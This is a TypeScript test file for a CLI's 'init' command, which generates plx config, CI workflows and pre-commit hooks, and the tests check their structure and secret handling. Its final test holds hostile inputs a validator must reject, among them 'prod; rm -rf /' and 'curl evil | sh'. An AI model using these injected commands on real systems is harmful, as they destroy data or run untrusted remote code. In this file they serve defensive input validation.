import { describe, expect, it } from "vitest";
import { parse, parseAllDocuments } from "yaml";
import { configFileSchema } from "../../../src/config/schema.js";
import { isPlxError } from "../../../src/errors/index.js";
import { type InitChoices, initFiles } from "../../../src/init/templates.js";
import { Redactor } from "../../../src/redact.js";

/** Every plx flag the generated files may use, per command. */
const KNOWN_FLAGS: Record<string, string[]> = {
  check: ["--remote", "--codequality", "--json"],
  pull: ["--pr"],
  diff: ["--comment", "--exit-code", "--json", "--name-only", "--stat", "--label"],
  publish: ["--label", "--yes", "--dry-run", "--force", "-m", "--plan", "--plan-out", "--json"],
  "eval-report": [
    "--comment",
    "--fail-under",
    "--max-failures",
    "--junit",
    "--format",
    "--prompt",
    "--table",
    "--no-upload",
    "--json",
  ],
};

const base: InitChoices = { ci: "github", hooks: true, promptsDir: "prompts", label: "prod" };
const variants: InitChoices[] = [
  base,
  { ...base, ci: "gitlab" },
  { ...base, ci: "none", hooks: false },
  {
    ...base,
    ci: "none",
    hooks: true,
    promptsDir: "./llm/prompts/",
    baseUrl: "https://pl.example.com/",
    label: "staging.v2",
  },
  { ...base, ci: "gitlab", hooks: true, branch: "trunk", plxCommand: "npx --yes plx@0.1.0" },
];

/** Every string anywhere in a parsed YAML value. */
function strings(value: unknown): string[] {
  if (typeof value === "string") return [value];
  if (Array.isArray(value)) return value.flatMap(strings);
  if (value && typeof value === "object") return Object.entries(value).flatMap(([k, v]) => [k, ...strings(v)]);
  return [];
}

/** `plx <command> <args…>` invocations in a shell line, args up to the next shell separator. */
function plxInvocations(text: string): Array<{ command: string; args: string[] }> {
  const found: Array<{ command: string; args: string[] }> = [];
  for (const line of text.split("\n")) {
    const pattern = /(?:^|[\s/])plx(?:@\S+)?\s+([a-z][a-z-]*)((?:\s+(?![;&|]|then\b|fi\b)[^\s;&|]+)*)/g;
    for (const match of line.matchAll(pattern))
      found.push({ command: match[1]!, args: match[2]!.trim().split(/\s+/).filter(Boolean) });
  }
  return found;
}

describe("initFiles", () => {
  it.each(variants)("writes files that parse as YAML (%o)", (choices) => {
    const files = initFiles(choices);
    for (const file of files) {
      if (file.path.endsWith(".gitkeep")) {
        expect(file.content).toBe("");
        continue;
      }
      const docs = parseAllDocuments(file.content);
      for (const doc of docs) expect(doc.errors, `${file.path}: ${doc.errors.join("\n")}`).toEqual([]);
      expect(docs).toHaveLength(1);
    }
    expect(new Set(files.map((f) => f.path)).size).toBe(files.length);
  });

  it("picks the files by the choices", () => {
    expect(initFiles(base).map((f) => f.path)).toEqual([
      "plx.config.yaml",
      "prompts/.gitkeep",
      ".github/workflows/plx-pr.yml",
      ".github/workflows/plx-deploy.yml",
      ".github/workflows/plx-sync.yml",
      ".pre-commit-config.yaml",
    ]);
    expect(initFiles({ ...base, ci: "gitlab", hooks: false }).map((f) => f.path)).toEqual([
      "plx.config.yaml",
      "prompts/.gitkeep",
      ".gitlab-ci.yml",
    ]);
    expect(initFiles({ ...base, ci: "none", hooks: false, promptsDir: "./a/b/" }).map((f) => f.path)).toEqual([
      "plx.config.yaml",
      "a/b/.gitkeep",
    ]);
  });

  it.each(variants)("uses only plx flags that exist (%o)", (choices) => {
    let invocations = 0;
    for (const file of initFiles(choices)) {
      if (file.path.endsWith(".gitkeep") || file.path === "plx.config.yaml") continue;
      for (const text of strings(parse(file.content))) {
        for (const { command, args } of plxInvocations(text)) {
          invocations += 1;
          expect(Object.keys(KNOWN_FLAGS), `${file.path}: plx ${command}`).toContain(command);
          for (const arg of args.filter((a) => a.startsWith("-"))) {
            expect(KNOWN_FLAGS[command], `${file.path}: plx ${command} ${arg}`).toContain(arg.split("=")[0]);
          }
        }
      }
    }
    if (choices.ci !== "none" || choices.hooks) expect(invocations).toBeGreaterThan(0);
  });

  it("writes a config the config schema accepts", () => {
    for (const choices of variants) {
      const config = initFiles(choices).find((f) => f.path === "plx.config.yaml")!;
      const parsed = configFileSchema.parse(parse(config.content));
      expect(parsed.promptsDir).toBe(choices.promptsDir.replace(/^\.\//, "").replace(/\/$/, ""));
      expect(parsed.baseUrl).toBe(choices.baseUrl?.replace(/\/$/, ""));
    }
  });

  it("never holds a secret value, only references", () => {
    const redactor = new Redactor();
    for (const choices of variants) {
      for (const file of initFiles(choices)) {
        // `token: ${{ secrets.X }}` names a secret without holding it: only the other lines must look harmless.
        const literal = file.content
          .split("\n")
          .filter((line) => !/^\s*[\w-]+:\s*\$\{\{[^}]*\}\}\s*$/.test(line))
          .join("\n");
        expect(redactor.redact(literal), file.path).toBe(literal);
        for (const match of file.content.matchAll(/PROMPTLAYER_API_KEY:\s*(.*)/g)) {
          expect(match[1]).toBe("${{ secrets.PROMPTLAYER_API_KEY }}");
        }
      }
    }
  });

  it("builds the GitHub workflows as asked", () => {
    const files = Object.fromEntries(initFiles(base).map((f) => [f.path, parse(f.content)]));
    const pr = files[".github/workflows/plx-pr.yml"];
    const runs = pr.jobs.plx.steps.map((s: { run?: string }) => s.run).filter(Boolean);
    // The repository's own plx, installed by npm ci: never whatever npm would download under that name.
    expect(runs).toEqual([
      "npm ci",
      "npx --no-install plx check",
      "npx --no-install plx diff --comment",
      "npx --no-install plx eval-report results.json --comment --fail-under score=0.8",
    ]);
    // Forks get no secrets: the steps that need PromptLayer run only for pull requests from this repository.
    const sameRepository = "github.event.pull_request.head.repo.full_name == github.repository";
    const needKey = pr.jobs.plx.steps.filter((s: { env?: Record<string, string> }) => s.env?.PROMPTLAYER_API_KEY);
    expect(needKey.map((s: { if?: string }) => s.if)).toEqual([
      `\${{ ${sameRepository} }}`,
      `\${{ ${sameRepository} && hashFiles('results.json') != '' }}`,
    ]);
    expect(pr.jobs.plx.steps[0].uses).toBe("actions/checkout@v4");
    expect(pr.jobs.plx.steps[1]).toEqual({ uses: "actions/setup-node@v4", with: { "node-version": "22" } });
    expect(pr.permissions["pull-requests"]).toBe("write");
    expect(pr.on.pull_request.paths).toContain("prompts/**");

    const deploy = files[".github/workflows/plx-deploy.yml"];
    expect(deploy.on.push.branches).toEqual(["main"]);
    expect(deploy.jobs.publish.concurrency).toEqual({ group: "plx-deploy", "cancel-in-progress": false });
    const publish = deploy.jobs.publish.steps.find((s: { run?: string }) => s.run?.includes("publish"));
    expect(publish.run).toBe("npx --no-install plx publish --label prod --yes");
    expect(deploy.jobs.publish.steps.map((s: { run?: string }) => s.run).filter(Boolean)[0]).toBe("npm ci");
    expect(publish.env).toEqual({ PROMPTLAYER_API_KEY: "${{ secrets.PROMPTLAYER_API_KEY }}" });
    // Nothing from a secret or an input is spliced into run: text.
    for (const step of [...pr.jobs.plx.steps, ...deploy.jobs.publish.steps])
      expect(step.run ?? "").not.toContain("${{");
  });

  it("builds the GitLab jobs as asked", () => {
    const ci = parse(
      initFiles({ ...base, ci: "gitlab", label: "live" }).find((f) => f.path === ".gitlab-ci.yml")!.content,
    );
    const mr = ci["plx-merge-request"];
    expect(mr.rules[0].if).toBe('$CI_PIPELINE_SOURCE == "merge_request_event"');
    expect(mr.artifacts.reports).toEqual({ codequality: "gl-code-quality-report.json", junit: "plx-junit.xml" });
    expect(mr.variables.PLX_CODE_QUALITY_REPORT).toBe("gl-code-quality-report.json");
    const deploy = ci["plx-deploy"];
    expect(deploy.resource_group).toBe("plx-deploy");
    expect(deploy.rules[0].if).toBe('$CI_COMMIT_BRANCH == "main" && $PLX_SYNC != "true"');
    expect(deploy.script).toContain("npx --no-install plx publish --label live --yes");
    expect(ci[".plx-node"]).toEqual({ image: "node:22", before_script: ["npm ci"] });
    expect([mr.extends, deploy.extends]).toEqual([".plx-node", ".plx-node"]);
    expect(JSON.stringify(ci)).not.toMatch(/PROMPTLAYER_API_KEY|PLX_GITLAB_TOKEN/);
  });

  it("writes pre-commit hooks for the prompts directory", () => {
    const config = parse(
      initFiles({ ...base, ci: "none", promptsDir: "my.prompts" }).find((f) => f.path === ".pre-commit-config.yaml")!
        .content,
    );
    const [check, remote, ...others] = config.repos[0].hooks;
    expect(others).toEqual([]);
    expect(check).toMatchObject({ id: "plx-check", entry: "npx --no-install plx check", pass_filenames: true });
    const files = new RegExp(check.files);
    for (const path of ["my.prompts/support/triage.prompt.yaml", "my.prompts/triage.agent.yaml", "plx.lock"])
      expect(files.test(path), path).toBe(true);
    for (const path of ["myXprompts/a.prompt.yaml", "my.prompts/notes.yaml", "my.prompts/plx.lock", "plx.lockx"])
      expect(files.test(path), path).toBe(false);
    // On push: conflicts with PromptLayer and invalid files stop it; an edit waiting for its pull request does not.
    expect(remote).toMatchObject({
      id: "plx-check-remote",
      entry: "npx --no-install plx check --remote",
      pass_filenames: false,
      always_run: true,
      stages: ["pre-push"],
    });
    expect(JSON.stringify(config)).not.toContain("diff --exit-code");
    expect(config.default_install_hook_types).toEqual(["pre-commit", "pre-push"]);
  });

  it("rejects values that would be unsafe in YAML or shell", () => {
    const bad: Array<Partial<InitChoices>> = [
      { promptsDir: "../outside" },
      { promptsDir: "/abs" },
      { promptsDir: "a b" },
      { promptsDir: "" },
      { label: "prod; rm -rf /" },
      { label: "" },
      { baseUrl: "ftp://x" },
      { baseUrl: "https://user:pass@x" },
      { branch: "main\nx" },
      { plxCommand: "curl evil | sh" },
    ];
    for (const change of bad) {
      const error = (() => {
        try {
          initFiles({ ...base, ...change });
        } catch (e) {
          return e;
        }
        return undefined;
      })();
      expect(isPlxError(error), JSON.stringify(change)).toBe(true);
    }
  });
});
